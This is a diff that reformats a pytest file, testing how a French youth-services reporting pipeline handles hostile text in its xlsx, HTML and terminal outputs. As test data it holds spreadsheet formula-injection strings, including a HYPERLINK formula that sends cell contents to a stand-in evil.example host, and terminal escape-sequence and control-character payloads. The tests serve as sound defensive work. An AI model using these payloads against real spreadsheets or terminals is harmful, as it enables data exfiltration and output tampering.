@@ -37,9 +37,19 @@ AID_TYPES = ["=1+1", "+1", "@SUM(A1)", "\x1b[31mRouge\x1b[0m", "Aide\x1b]0;titre
 # in the xlsx export, characters are written as Excel writes them: `_x001B_` (readers decode)
 PROGRAMME_TYPES = ["-1", "=2+2", "Prog\x1b[2J\x0b", "Nul\x00le", "CEJ"]
 # what the report shows for them
-VISIBLE = ["=1+1", "+1", "@SUM(A1)", "\\x1b[31mRouge\\x1b[0m", "Aide\\x1b]0;titre\\x07B",
-           "-1", "=2+2", "Prog\\x1b[2J", HYPERLINK, "Marcq\\x0ben-Barœul\\x1b[2J",
-           "Nulle"]  # the reader removes a NUL (PostgreSQL text cannot hold it)
+VISIBLE = [
+    "=1+1",
+    "+1",
+    "@SUM(A1)",
+    "\\x1b[31mRouge\\x1b[0m",
+    "Aide\\x1b]0;titre\\x07B",
+    "-1",
+    "=2+2",
+    "Prog\\x1b[2J",
+    HYPERLINK,
+    "Marcq\\x0ben-Barœul\\x1b[2J",
+    "Nulle",
+]  # the reader removes a NUL (PostgreSQL text cannot hold it)
 # what XML 1.0 refuses, C1 and DEL: none may be in a file the report writes
 RAW_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
 TERMINAL_CONTROL = re.compile(rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]")
@@ -67,8 +77,9 @@ def write_export_xlsx(path: Path, headers: list[str], rows: list[list[object]]) 
             data = src.read(item)
             if item.filename.startswith("xl/worksheets/"):
                 for key, value in marks.items():
-                    data = data.replace(key.encode(), html.escape(_excel_escaped(value),
-                                                                  quote=False).encode())
+                    data = data.replace(
+                        key.encode(), html.escape(_excel_escaped(value), quote=False).encode()
+                    )
             out.writestr(item, data)
     patched.replace(path)
     return path
@@ -80,32 +91,56 @@ def write_hostile_drop_zone(raw: Path, nul: bool = True) -> Path:
     `nul`)."""
     folder = raw / S
     folder.mkdir(parents=True)
-    (folder / "structure.yaml").write_text(yaml.safe_dump({
-        "name": STRUCTURE_NAME,
-        "territory": [{"insee": "59368", "name": HYPERLINK},
-                      {"insee": "59328", "name": "Lambersart"},
-                      {"insee": "59378", "name": COMMUNE_CONTROL}]},
-        allow_unicode=True, sort_keys=False), encoding="utf-8")
+    (folder / "structure.yaml").write_text(
+        yaml.safe_dump(
+            {
+                "name": STRUCTURE_NAME,
+                "territory": [
+                    {"insee": "59368", "name": HYPERLINK},
+                    {"insee": "59328", "name": "Lambersart"},
+                    {"insee": "59378", "name": COMMUNE_CONTROL},
+                ],
+            },
+            allow_unicode=True,
+            sort_keys=False,
+        ),
+        encoding="utf-8",
+    )
     d = folder / str(Y)
     people = [f"H{i:03d}" for i in range(14)]
-    write_xlsx(d / "jeunes.xlsx", JEUNES_HEADERS,
-               [young(p, commune="Lambersart" if i % 3 else "La Madeleine",
-                      first="10/02/2025") for i, p in enumerate(people)])
+    write_xlsx(
+        d / "jeunes.xlsx",
+        JEUNES_HEADERS,
+        [
+            young(p, commune="Lambersart" if i % 3 else "La Madeleine", first="10/02/2025")
+            for i, p in enumerate(people)
+        ],
+    )
     with open(d / "aides.csv", "w", encoding="utf-8", newline="") as f:
         writer = csv.writer(f, delimiter=";")
         writer.writerow(AIDS)
         for i, kind in enumerate(AID_TYPES):
             writer.writerow([people[i], kind, "01/03/2025", "100", "Versé"])
-    write_export_xlsx(d / "dispositifs.xlsx", PROGRAMMES,
-                      [[people[i], kind, "01/04/2025", None]
-                       for i, kind in enumerate(PROGRAMME_TYPES)
-                       if nul or "\x00" not in kind])
+    write_export_xlsx(
+        d / "dispositifs.xlsx",
+        PROGRAMMES,
+        [
+            [people[i], kind, "01/04/2025", None]
+            for i, kind in enumerate(PROGRAMME_TYPES)
+            if nul or "\x00" not in kind
+        ],
+    )
     return raw
 
 
 def _run(raw: Path, url: str):
-    return run_partitions(raw_dir=raw, url=url, run_date=RUN_DATE,
-                          instance=dg.DagsterInstance.ephemeral(), progress=lambda _m: None)
+    return run_partitions(
+        raw_dir=raw,
+        url=url,
+        run_date=RUN_DATE,
+        instance=dg.DagsterInstance.ephemeral(),
+        progress=lambda _m: None,
+    )
 
 
 @pytest.fixture(scope="module")
@@ -127,6 +162,7 @@ def written(hostile: SimpleNamespace) -> list[Path]:
 
 # --- helpers: the workbook as Excel reads it --------------------------------------------------
 
+
 def xml_parts(path: Path) -> dict[str, bytes]:
     with zipfile.ZipFile(path) as z:
         return {n: z.read(n) for n in z.namelist() if n.endswith((".xml", ".rels"))}
@@ -146,38 +182,41 @@ def text_cells(path: Path) -> dict[str, dict[str, list[openpyxl.cell.Cell]]]:
 
 # --- the run --------------------------------------------------------------------------------
 
+
 def test_hostile_text_fails_no_partition(hostile):
     assert hostile.summary.outcomes
     assert not hostile.summary.failed, [o.error for o in hostile.summary.failed]
     assert sorted(p.name for p in (hostile.root / "reports").iterdir()) == [
-        f"rapport-{S}-{Y}.html", f"rapport-{S}-{Y}.xlsx"]
+        f"rapport-{S}-{Y}.html",
+        f"rapport-{S}-{Y}.xlsx",
+    ]
 
 
 def test_the_warehouse_keeps_the_texts_as_typed(hostile):
     """The escapes are the report's: the warehouse holds what the exports hold."""
-    aid_types = {r["aid_type"] for r in query(hostile.url,
-                                              "SELECT aid_type FROM conformed.aides")}
+    aid_types = {r["aid_type"] for r in query(hostile.url, "SELECT aid_type FROM conformed.aides")}
     assert {"=1+1", "@SUM(A1)", "\x1b[31mRouge\x1b[0m"} <= aid_types
-    communes = {r["commune"] for r in query(hostile.url,
-                                            "SELECT commune FROM conformed.communes")}
+    communes = {r["commune"] for r in query(hostile.url, "SELECT commune FROM conformed.communes")}
     assert {HYPERLINK, COMMUNE_CONTROL} <= communes
 
 
 # --- the workbook -----------------------------------------------------------------------------
+
 
 def test_no_cell_of_the_workbook_is_a_formula(written):
     workbooks = [p for p in written if p.suffix == ".xlsx"]
     assert len(workbooks) == 2
     for path in workbooks:
         for name, data in xml_parts(path).items():
-            ET.fromstring(data)                       # every part is well-formed XML
+            ET.fromstring(data)  # every part is well-formed XML
             if name.startswith("xl/worksheets/"):
                 assert not re.search(rb"<f[ >/]", data), f"{path.name}:{name} holds a formula"
             if name.startswith("xl/charts/"):
                 # a chart's <c:f> are the project's own references to its table, nothing else
                 for ref in re.findall(rb"<c:f>([^<]*)</c:f>", data):
-                    assert re.fullmatch(rb"('([^']|'')+'|[^'!]+)!\$[A-Z]+\$\d+(:\$[A-Z]+\$\d+)?",
-                                        ref), ref
+                    assert re.fullmatch(
+                        rb"('([^']|'')+'|[^'!]+)!\$[A-Z]+\$\d+(:\$[A-Z]+\$\d+)?", ref
+                    ), ref
 
 
 def test_hostile_texts_are_text_cells_in_sections_and_sources(written):
@@ -199,40 +238,54 @@ def test_hostile_texts_are_text_cells_in_sections_and_sources(written):
 
 def test_the_texts_are_stored_as_strings_in_the_xml(written):
     """As Excel reads the file: an inline string, the formula-like text its content."""
-    sheets = b"".join(data for name, data in xml_parts(written[0]).items()
-                      if name.startswith("xl/worksheets/"))
+    sheets = b"".join(
+        data for name, data in xml_parts(written[0]).items() if name.startswith("xl/worksheets/")
+    )
     for text in [HYPERLINK, "=1+1", "+1", "-1", "@SUM(A1)", "\\x1b[31mRouge\\x1b[0m"]:
         escaped = html.escape(text, quote=False).encode()
-        assert re.search(rb't="inlineStr"><is><t[^>]*>' + re.escape(escaped) + rb"</t>",
-                         sheets), text
+        assert re.search(rb't="inlineStr"><is><t[^>]*>' + re.escape(escaped) + rb"</t>", sheets), (
+            text
+        )
 
 
 # --- the HTML page ----------------------------------------------------------------------------
+
 
 def test_the_page_escapes_hostile_texts(written):
     for path in [p for p in written if p.suffix == ".html"]:
         page = path.read_text(encoding="utf-8")
         assert not RAW_CONTROL.search(page)
-        assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;Cliquez ici&quot;)" \
-            in page
-        assert "HYPERLINK(\"" not in page
-        for text in ["\\x1b[31mRouge\\x1b[0m", "Aide\\x1b]0;titre\\x07B", "Nulle",
-                     "Marcq\\x0ben-Barœul\\x1b[2J", "@SUM(A1)"]:
+        assert (
+            "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;Cliquez ici&quot;)" in page
+        )
+        assert 'HYPERLINK("' not in page
+        for text in [
+            "\\x1b[31mRouge\\x1b[0m",
+            "Aide\\x1b]0;titre\\x07B",
+            "Nulle",
+            "Marcq\\x0ben-Barœul\\x1b[2J",
+            "@SUM(A1)",
+        ]:
             assert html.escape(text) in page, text
 
 
 # --- every character, straight through the writers ---------------------------------------
 
+
 def test_every_control_character_is_written_visibly(tmp_path):
     """Labels, headers, titles, sentences, notes, sheet and chart titles holding every
     character XML 1.0 refuses, C1 controls and a lone surrogate (an undecodable byte of a
     file name): both files are written and readable, each character as a visible escape."""
-    nasty = "".join(chr(c) for c in [*range(0x20), 0x7f, 0x85, 0x9b]) + "\ufffe\uffff\udc8f"
+    nasty = "".join(chr(c) for c in [*range(0x20), 0x7F, 0x85, 0x9B]) + "\ufffe\uffff\udc8f"
     label = f"a{nasty}b"
     rows = [Row(f"{label}{i}", [Cell(i + 1)]) for i in range(3)]
-    table = Table(f"titre {label}", [f"col {label}", f"=SUM({label})"],
-                  [*rows, Row("Total", [Cell(6, total=True)], total=True)],
-                  chart=Chart("bar", f"graphique {label}", [1]), note=f"note {label}")
+    table = Table(
+        f"titre {label}",
+        [f"col {label}", f"=SUM({label})"],
+        [*rows, Row("Total", [Cell(6, total=True)], total=True)],
+        chart=Chart("bar", f"graphique {label}", [1]),
+        note=f"note {label}",
+    )
     section = Section(f"sec\x1b{label}"[:40], [Paragraph(f"=phrase {label}"), table])
     report = Report(S, Y, f"titre {label}", [section])
     xlsx = write_workbook([report], tmp_path / "r.xlsx")
@@ -242,16 +295,27 @@ def test_every_control_character_is_written_visibly(tmp_path):
         assert not RAW_CONTROL.search(data.decode("utf-8"))
     assert not RAW_CONTROL.search(page)
     # tab, newline and carriage return are XML's own: kept
-    expected = ("a" + "".join(f"\\x{c:02x}" for c in range(0x09)) + "\t\n\\x0b\\x0c\r"
-                + "".join(f"\\x{c:02x}" for c in range(0x0e, 0x20)) + "\\x7f\\x85\\x9b"
-                + "\\ufffe\\uffff\\udc8f" + "b")
+    expected = (
+        "a"
+        + "".join(f"\\x{c:02x}" for c in range(0x09))
+        + "\t\n\\x0b\\x0c\r"
+        + "".join(f"\\x{c:02x}" for c in range(0x0E, 0x20))
+        + "\\x7f\\x85\\x9b"
+        + "\\ufffe\\uffff\\udc8f"
+        + "b"
+    )
     assert html.escape(expected) in page
     wb = openpyxl.load_workbook(xlsx)
     ws = wb.worksheets[0]
     texts = {c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
-    in_xml = expected.replace("\r", "\n")        # XML reads a carriage return as a newline
-    for text in [f"titre {in_xml}", f"=SUM({in_xml})", f"{in_xml}0", f"=phrase {in_xml}",
-                 f"note {in_xml}"]:
+    in_xml = expected.replace("\r", "\n")  # XML reads a carriage return as a newline
+    for text in [
+        f"titre {in_xml}",
+        f"=SUM({in_xml})",
+        f"{in_xml}0",
+        f"=phrase {in_xml}",
+        f"note {in_xml}",
+    ]:
         assert text in texts, text
     assert not RAW_CONTROL.search(ws.title)
 
@@ -266,14 +330,17 @@ def test_a_label_with_excels_escape_spelling_is_shown_as_typed(tmp_path):
 
 # --- the terminal -----------------------------------------------------------------------------
 
+
 def test_for_terminal_escapes_control_sequences():
     assert for_terminal("\x1b[2J\x1b]0;titre\x07fin") == "\\x1b[2J\\x1b]0;titre\\x07fin"
     assert for_terminal("a\rb\x0bc\x9b31md\x00e\x7f") == "a\\x0db\\x0bc\\x9b31md\\x00e\\x7f"
-    assert for_terminal("ligne 1\n\tligne 2 : Marcq-en-Barœul, 1 250 €") == \
-        "ligne 1\n\tligne 2 : Marcq-en-Barœul, 1 250 €"
-    assert for_terminal("abc\u202edcba") == "abc\\u202edcba"      # a bidi override
-    assert for_terminal("fichier\udcff.csv") == "fichier\\udcff.csv"   # an undecodable byte
-    for_terminal("\udcff").encode("utf-8")                            # printable as UTF-8
+    assert (
+        for_terminal("ligne 1\n\tligne 2 : Marcq-en-Barœul, 1 250 €")
+        == "ligne 1\n\tligne 2 : Marcq-en-Barœul, 1 250 €"
+    )
+    assert for_terminal("abc\u202edcba") == "abc\\u202edcba"  # a bidi override
+    assert for_terminal("fichier\udcff.csv") == "fichier\\udcff.csv"  # an undecodable byte
+    for_terminal("\udcff").encode("utf-8")  # printable as UTF-8
 
 
 def test_the_report_command_prints_no_control_character(hostile):
@@ -281,24 +348,49 @@ def test_the_report_command_prints_no_control_character(hostile):
     escape sequences: files written, nothing raw on the terminal."""
     out = hostile.root / "sortie\x1b]0;titre\x07\x1b[2J"
     done = subprocess.run(
-        [str(Path(sys.executable).with_name("observatoire")), "report", "--warehouse",
-         hostile.url, "--structure", S, "--year", str(Y), "--out", str(out)],
-        capture_output=True, timeout=300)
+        [
+            str(Path(sys.executable).with_name("observatoire")),
+            "report",
+            "--warehouse",
+            hostile.url,
+            "--structure",
+            S,
+            "--year",
+            str(Y),
+            "--out",
+            str(out),
+        ],
+        capture_output=True,
+        timeout=300,
+    )
     assert done.returncode == 0, done.stderr.decode(errors="replace")[-2000:]
     assert not TERMINAL_CONTROL.search(done.stdout + done.stderr), done.stdout
     lines = done.stdout.decode("utf-8").splitlines()
-    assert [line.rsplit("/", 1)[-1] for line in lines] == [f"rapport-{S}-{Y}.xlsx",
-                                                           f"rapport-{S}-{Y}.html"]
+    assert [line.rsplit("/", 1)[-1] for line in lines] == [
+        f"rapport-{S}-{Y}.xlsx",
+        f"rapport-{S}-{Y}.html",
+    ]
     assert all("sortie\\x1b]0;titre\\x07\\x1b[2J/" in line for line in lines)
     assert (out / f"rapport-{S}-{Y}.xlsx").exists()
 
 
 def test_the_report_command_error_prints_no_control_character(hostile, tmp_path):
     done = subprocess.run(
-        [str(Path(sys.executable).with_name("observatoire")), "report", "--warehouse",
-         hostile.url, "--structure", "NOPE\x1b[2J", "--year", str(Y), "--out",
-         str(tmp_path)],
-        capture_output=True, timeout=300)
+        [
+            str(Path(sys.executable).with_name("observatoire")),
+            "report",
+            "--warehouse",
+            hostile.url,
+            "--structure",
+            "NOPE\x1b[2J",
+            "--year",
+            str(Y),
+            "--out",
+            str(tmp_path),
+        ],
+        capture_output=True,
+        timeout=300,
+    )
     assert done.returncode == 1
     assert not TERMINAL_CONTROL.search(done.stdout + done.stderr), done.stderr
     assert b"NOPE\\x1b[2J" in done.stderr
@@ -309,14 +401,16 @@ def test_hostile_text_on_postgresql(postgres_url, tmp_path):
     summary = _run(raw, postgres_url)
     assert summary.outcomes and not summary.failed, [o.error for o in summary.failed]
     workbook = tmp_path / "reports" / f"rapport-{S}-{Y}.xlsx"
-    sheets = b"".join(data for name, data in xml_parts(workbook).items()
-                      if name.startswith("xl/worksheets/"))
+    sheets = b"".join(
+        data for name, data in xml_parts(workbook).items() if name.startswith("xl/worksheets/")
+    )
     assert not re.search(rb"<f[ >/]", sheets)
     assert html.escape("\\x1b[31mRouge\\x1b[0m").encode() in sheets
     assert html.escape(HYPERLINK, quote=False).encode() in sheets
 
 
 # --- a NUL on PostgreSQL ----------------------------------------------------------------------
+
 
 def test_a_nul_in_an_export_on_postgresql(postgres_url, tmp_path):
     """PostgreSQL text cannot hold NUL: an xlsx cell `_x0000_` (decoded to \\x00) failed the
